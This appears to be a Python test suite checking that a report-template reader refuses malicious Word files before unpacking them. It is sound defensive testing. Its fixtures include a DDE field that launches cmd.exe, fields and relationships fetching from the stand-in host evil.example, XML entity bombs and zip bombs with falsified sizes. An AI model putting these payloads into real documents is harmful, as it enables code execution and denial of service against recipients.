"""Files that people and attackers bring: refused with the cure before anything of them is unpacked, fetched or run."""

import io
import re
import zipfile

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shuyuan.report import bind, package, template
from tests.report import words
from tests.report.samples import FIGURES, MADE

PLAIN = words.with_runs("发放{{ aid.grants }}。")
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    """The plain document with a relationship to something elsewhere."""
    relation = f'<Relationship Id="rId99" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    return words.changed(PLAIN, part, "</Relationships>", f"{relation}</Relationships>")


def field(*instruction: str) -> bytes:
    pieces = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instruction)
    begin, end = (f"<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>" for kind in ("begin", "end"))
    return words.with_body(f"<w:p>{begin}{pieces}{end}</w:p>")


def refused(data: bytes) -> str:
    with pytest.raises(package.PackageError) as caught:
        template.read(data)
    return str(caught.value)


@pytest.mark.parametrize(
    ("kind", "said"),
    [
        ("image", "外部的图片（http://evil.example/x）"),
        ("oleObject", "外部的嵌入对象"),
        ("frame", "外部的frame"),
        ("externalLinkPath", "外部的externalLinkPath"),
    ],
)
def test_what_would_be_fetched_is_refused(kind: str, said: str) -> None:
    assert said in refused(related(kind, "http://evil.example/x"))


def test_a_path_on_the_network_is_refused_too() -> None:
    assert "不予接受" in refused(related("image", "file://server/share/x.png"))


def test_a_link_that_somebody_has_to_click_may_stay() -> None:
    assert template.read(related("hyperlink", "http://www.jintan.gov.cn/")).placeholders


def test_the_note_of_its_own_template_is_forgotten() -> None:
    note = f'<w:attachedTemplate xmlns:r="{RELATIONS}" r:id="rId99"/></w:settings>'
    data = words.changed(PLAIN, "word/settings.xml", "</w:settings>", note)
    relation = f'<Relationship Id="rId99" Type="{RELATIONS}/attachedTemplate" Target="http://evil.example/x.dotm"'
    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    data = words.changed(
        data, "word/_rels/settings.xml.rels", "", f'{rels}{relation} TargetMode="External"/></Relationships>'
    )
    assert "evil.example" in words.part(data, "word/_rels/settings.xml.rels")
    filled = bind.fill(data, FIGURES, made=MADE)
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"evil.example" not in everything and b"attachedTemplate" not in everything


@pytest.mark.parametrize(
    "instruction",
    [
        ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",),
        (
            " DD",
            "E Excel Sheet1",
        ),
        ("INCLUDEPICTURE http://evil.example/x.png",),
        ("includetext file://server/x.docx",),
    ],
)
def test_a_field_that_reads_from_elsewhere_is_refused(instruction: tuple[str, ...]) -> None:
    assert "会读取外部内容的域" in refused(field(*instruction))


def test_the_fields_that_reports_have_may_stay() -> None:
    for instruction in ("PAGE", 'TOC \\o "1-3"', "REF fig_0001", "DATE", 'HYPERLINK "http://x.example"'):
        template.read(field(instruction))


def test_entities_are_refused_before_they_are_read() -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    data = words.changed(PLAIN, "word/document.xml", "?>", f"?>{bomb}")
    assert "DOCTYPE" in refused(data)
    assert "DOCTYPE" in refused(words.changed(PLAIN, "word/document.xml", "?>", f"?><!--{'x' * 9000}-->{bomb}"))
    assert "DOCTYPE" in refused(words.changed(PLAIN, "word/styles.xml", "encoding='UTF-8'", "encoding='UTF-7'"))


def test_a_bomb_is_refused_by_what_it_says_of_itself() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b" " * (package.MOST_XML + 1))
    assert len(buffer.getvalue()) < 100_000
    assert "展开后过大" in refused(buffer.getvalue())


def test_a_bomb_that_lies_about_its_size_is_not_unpacked() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b" " * 10_000_000)
    size = (10_000_000).to_bytes(4, "little")
    assert refused(buffer.getvalue().replace(size, (100).to_bytes(4, "little")))


def test_a_thousand_empty_parts_too_many_are_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(package.MOST_PARTS + 1):
            archive.writestr(f"word/{number}.xml", "")
    assert "展开后过大" in refused(buffer.getvalue())


def test_two_parts_of_one_name_are_refused() -> None:
    buffer = io.BytesIO(PLAIN)
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/document.xml", "<x/>")
    assert "重名的部分" in refused(buffer.getvalue())


def test_a_file_beyond_the_limit_is_refused_unread() -> None:
    assert "超过 20 MB" in refused(PLAIN + b"\0" * package.MOST_BYTES)


def test_characters_that_we_keep_for_ourselves_are_refused() -> None:
    assert "无法识别的字符" in refused(words.with_runs("发放\ufdd07\ufdd1元"))


@settings(max_examples=100)
@given(st.integers(0, len(PLAIN) - 1), st.binary(min_size=1, max_size=4))
def test_a_damaged_file_is_refused_or_read_and_never_more(place: int, bytes_: bytes) -> None:
    damaged = PLAIN[:place] + bytes_ + PLAIN[place + len(bytes_) :]
    try:
        template.read(damaged)
    except package.PackageError as error:
        assert re.search("[\u4e00-\u9fff]", str(error))


def test_ten_thousand_placeholders_are_filled() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph()
    for number in range(10_000):
        if number % 100 == 0:
            paragraph = document.add_paragraph()
        paragraph.add_run("发放{{ aid.grants }}，")
    data = bind.fill(words.saved(document), FIGURES, made=MADE)
    assert words.part(data, "word/document.xml").count("<w:sdt>") == 10_000
